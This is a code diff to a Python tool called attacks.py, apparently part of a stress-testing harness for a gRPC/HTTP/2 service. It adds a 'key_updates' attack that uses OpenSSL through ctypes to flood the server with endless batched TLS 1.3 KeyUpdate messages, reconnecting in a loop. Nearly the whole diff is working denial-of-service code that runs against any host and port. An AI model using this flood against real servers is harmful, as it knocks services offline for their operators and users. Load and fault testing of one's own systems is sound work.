@@ -3,9 +3,11 @@ clients, storm.py has them beside other faults.
 
 usage: attacks.py PB HOST:PORT SOURCE ATTACK   (on its own; plain)
 """
+import ctypes
 import os
 import random
 import select
+import socket
 import ssl
 import struct
 import sys
@@ -14,7 +16,7 @@ import time
 
 import grpc
 
-from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITIZED, PRIORITY, RST, SETTINGS, WINDOW,
+from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HELLO, PING, PRIORITIZED, PRIORITY, RST, SETTINGS, WINDOW,
                    call, connect, frame, headers, literal, message, settings, tls_context)
 
 if __name__ == "__main__":
@@ -364,6 +366,37 @@ class Attack:
         chunk = b"".join(frame(r.randrange(12), r.randrange(256), r.randrange(8), r.randbytes(r.randrange(64))) for _ in range(1000))
         self.flood(None, lambda st: chunk)
 
+    # -- what only TLS has: by OpenSSL itself, since Python's module does not hand it on --
+
+    def key_updates(self):
+        """New keys without end (RFC 8446, 4.6.3): none of it is a byte for who reads."""
+        tls = ctypes.CDLL("libssl.so.3")
+        for f in (tls.TLS_client_method, tls.SSL_CTX_new, tls.SSL_new):
+            f.restype = ctypes.c_void_p
+        context = ctypes.c_void_p(tls.SSL_CTX_new(ctypes.c_void_p(tls.TLS_client_method())))
+        tls.SSL_CTX_set_alpn_protos(context, b"\x02h2", 3)
+        tls.BIO_s_mem.restype = tls.BIO_new.restype = ctypes.c_void_p
+        out, hello = ctypes.create_string_buffer(1 << 22), HELLO + settings()
+        while True:
+            plain = socket.create_connection((self.host, self.port))
+            c = ctypes.c_void_p(tls.SSL_new(context))
+            tls.SSL_set_fd(c, plain.fileno())
+            there = tls.SSL_connect(c) == 1 and tls.SSL_write(c, hello, len(hello)) == len(hello)
+            batch = ctypes.c_void_p(tls.BIO_new(ctypes.c_void_p(tls.BIO_s_mem())))
+            tls.SSL_set0_wbio(c, batch)
+            while there:  # many at once: the replica finds them in its socket
+                for _ in range(100000):
+                    tls.SSL_key_update(c, 0)
+                    tls.SSL_do_handshake(c)
+                n = tls.BIO_read(batch, out, len(out))
+                try:
+                    plain.sendall(out.raw[:n])
+                except OSError:
+                    there = False
+                self.sent += n
+            tls.SSL_free(c)
+            plain.close()
+
 
 COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "unknown_frames", "frames_of_the_past", "settings_of_all_streams", "goodbyes",
              "tall_trees", "rapid_reset", "continuations", "header_references",
@@ -372,6 +405,7 @@ COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", 
 COST_MEMORY = ["unread_ranges", "zero_windows", "one_byte_windows", "large_answers_to_writes", "half_messages", "half_watches",
                "refused_watches", "watches", "old_values"]
 COST_CONNECTIONS = ["idle", "come_and_go", "slow_bytes"]
+COST_TLS = ["key_updates"]
 ALL = COST_LOOP + COST_MEMORY + COST_CONNECTIONS + ["logins"]
 # That leave the keys alone, and are at their height at once.
 MILD = [a for a in ALL if a not in ("costly_txns", "large_answers_to_writes", "watches", "old_values", "lease_lists", "lock_crowds", "logins")]
